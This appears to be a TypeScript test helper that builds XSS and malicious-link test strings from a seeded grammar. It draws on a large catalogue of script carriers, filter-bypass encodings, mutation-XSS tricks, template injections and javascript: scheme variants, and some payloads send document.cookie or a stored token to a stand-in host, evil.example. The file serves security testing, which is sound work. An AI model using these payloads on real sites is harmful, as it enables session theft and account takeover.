// Texts that try to run as code, made by a grammar: the payload, its carrier, its spelling, and the context it breaks
// out of.

/** The same list for the same seed. Each holds `q<number>q`, so that it can be found again on a screen. */
export function hostileTexts(count: number, seed = 1): string[] {
  const random = randomFrom(seed);
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)]!;
  return Array.from({ length: count }, (_, n) => {
    const mark = `q${n}q`;
    const code = pick(writings)(pick(attempts));
    const inside = pick(carriers)(code, mark);
    const text = pick(encodings)(pick(breakouts) + pick(wrappers)(inside, random));
    return `${mark} ${text}`;
  });
}

/** Addresses that a link must not lead to. */
export function hostileLinks(count: number, seed = 2): string[] {
  const random = randomFrom(seed);
  return Array.from({ length: count }, (_, n) => `${schemes[Math.floor(random() * schemes.length)]!}q${n}q`);
}

const attempts = [
  'pwn()',
  'top.pwn()',
  "window['pwn']()",
  "eval('pw'+'n()')",
  "setTimeout('pwn()')",
  "Function('pwn()')()",
  "[]['constructor']['constructor']('pwn()')()",
  'alert(1)',
  "confirm('1')",
  "import('data:text/javascript,pwn()')",
  "location='javascript:pwn()'",
  "document.write('<script>pwn()</script>')",
  "document.body.innerHTML='<img src=x onerror=pwn()>'",
  "fetch('https://evil.example/'+document.cookie)",
  "navigator.sendBeacon('https://evil.example/',localStorage.pwaToken)",
  "new Image().src='https://evil.example/?'+document.cookie",
  "navigator.serviceWorker.register('data:text/javascript,pwn()')",
  "postMessage('pwn()','*')",
];

/** How the code itself is written. */
const writings: ((code: string) => string)[] = [
  (code) => code,
  (code) => code.replaceAll('pwn', String.raw`\u0070wn`),
  (code) => code.replaceAll('(', '&#40;').replaceAll(')', '&#41;'),
  (code) =>
    code
      .split('')
      .map((char) => `&#x${char.codePointAt(0)!.toString(16)};`)
      .join(''),
  (code) =>
    code
      .split('')
      .map((char) => `&#${char.codePointAt(0)}`)
      .join(';'),
  (code) => code.replaceAll('()', '``'),
  (code) => `/**/${code}//`,
  (code) => `\n\t${code}`,
];

type Carrier = (code: string, mark: string) => string;
const handler =
  (tag: string, event: string, more = ''): Carrier =>
  (code, mark) =>
    `<${tag} ${more} ${event}="${code}">${mark}</${tag}>`;

const carriers: Carrier[] = [
  (code, mark) => `<script>${code}</script>${mark}`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  handler('img', 'onerror', 'src=x'),
  handler('img', 'onload', 'src="/icons/main-192.png"'),
  handler('svg', 'onload'),
  handler('body', 'onload'),
  handler('body', 'onpageshow'),
  handler('input', 'onfocus', 'autofocus'),
  handler('details', 'ontoggle', 'open'),
  handler('video', 'onerror', 'src=x'),
  handler('audio', 'onerror', 'src=x'),
  handler('marquee', 'onstart'),
  handler('div', 'onanimationstart', 'style="animation:x 1s"'),
  handler('div', 'onpointerenter', 'style="position:fixed;inset:0"'),
  handler('x-y', 'onfocus', 'tabindex=0 autofocus'),
  handler('style', 'onload'),
  handler('object', 'onerror', 'data=x'),
  handler('iframe', 'onload', 'src=about:blank'),
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code, mark) => `<a href="javascript:${code}">${mark}</a>`,
  (code, mark) => `<a href="java&#9;script&colon;${code}" target=_self>${mark}</a>`,
  (code, mark) => `<a href="data:text/html,<script>${code}</script>">${mark}</a>`,
  (code, mark) => `<form action="javascript:${code}"><button>${mark}</button></form>`,
  (code, mark) => `<button formaction="javascript:${code}">${mark}</button>`,
  (code, mark) => `<math href="javascript:${code}">${mark}</math>`,
  (code, mark) => `<svg><a xlink:href="javascript:${code}"><text y=20>${mark}</text></a></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  (code) => `<svg><a><animate attributeName=href values="javascript:${code}"/><text>x</text></a></svg>`,
  (code) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${code}'/>#x"/></svg>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><foreignObject><iframe srcdoc="<img src=x onerror=${code}>"/></foreignObject></svg>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href="javascript:${code}//">`,
  () => '<base href="https://evil.example/">',
  () => '<link rel=stylesheet href="https://evil.example/x.css">',
  (code) => `<link rel=import href="data:text/html,<script>${code}</script>">`,
  () => '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/)}</style>',
  (code) => `<p style="background:url(javascript:${code});width:expression(${code})">x</p>`,
  (code) => `<template shadowrootmode=open><img src=x onerror="${code}"></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${code}">`,
  (code) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${code}"></style></annotation-xml></math>`,
  (code) => `<svg><![CDATA[><img src=x onerror="${code}">]]></svg>`,
  (code) => `<select><xmp><script>${code}</script></xmp></select>`,
  (code) => `<title><img src=x onerror="${code}"></title>`,
  (code) => `<textarea><img title="</textarea><img src=x onerror=${code}>">`,
  (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
  (code) => `<!--<img src="--><img src=x onerror=${code}//">`,
  (code) => `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onclick="${code}">x</x>`,
  (_code, mark) =>
    `<a id=location href="https://evil.example/">${mark}</a><form name=body><input name=children></form>`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{${code}}}`,
  (code) => `\${${code}}`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `[[\${${code}}]]`,
  (code) =>
    `{"__proto__":{"innerHTML":"<img src=x onerror=${code}>"},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code}>"}}`,
  (code) => `javascript:${code}`,
  (code) => `=HYPERLINK("javascript:${code}","x")`,
];

const breakouts = [
  '',
  '',
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</script>',
  '</textarea>',
  '</title></style>',
  '\\";',
  "';pwn();//",
  '" autofocus onfocus="pwn()" x="',
  "' onmouseover='pwn()' '",
  '\u2028',
  '\u0000',
  '</p></div></body></html>',
];

const encodings: ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#62'),
  (text) => text.replaceAll('<', '&#x0003C;'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\x3e`),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '%C0%BC'),
  (text) => text.replaceAll('<s', '<\u0000s').replaceAll('<i', '<\u0000i'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replaceAll('script', 'sc\u200bript').replaceAll('on', 'o\u00adn'),
  (text) => text.replaceAll(/<(\w+)/g, (_all, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replaceAll('script', 'ScRiPt').replaceAll('onerror', 'oNeRrOr'),
  (text) => text.replaceAll('"', ''),
  (text) => text.replaceAll('"', '`'),
  (text) => text.replace(/>[^>]*$/, ''),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('a', 'а').replaceAll('o', 'о'),
  (text) => text.normalize('NFKD'),
];

const wrappers: ((text: string, random: () => number) => string)[] = [
  ...Array.from({ length: 40 }, () => (text: string) => text),
  (text) => `<div>${text}</div>`,
  (text) => `<b><i><u>${text}`,
  (text) => text + text,
  (text) => `<svg><desc>${text}</desc></svg>`,
  (text) => `<table><tr><td>${text}`,
  (text, random) => '<div>'.repeat(50 + Math.floor(random() * 400)) + text,
  (text, random) => `${'А'.repeat(2000 + Math.floor(random() * 8000))}${text}`,
];

const schemes = [
  'javascript:pwn()//',
  'JaVaScRiPt:pwn()//',
  'java\tscript:pwn()//',
  '\u0001javascript:pwn()//',
  ' javascript:pwn()//',
  'javascript://%0apwn()//',
  'javascript&colon;pwn()//',
  'data:text/html,<script>pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==#',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>#',
  'vbscript:pwn()//',
  'feed:javascript:pwn()//',
  'view-source:javascript:pwn()//',
  '//evil.example/',
  String.raw`\\evil.example/`,
  '/\\evil.example/',
  'https://evil.example/',
  'https:evil.example/',
  '/%09/evil.example/',
  'blob:https://evil.example/',
  'intent://evil.example/#Intent;scheme=https;end;',
  'file:///etc/passwd#',
];

/** Mulberry32. */
function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}
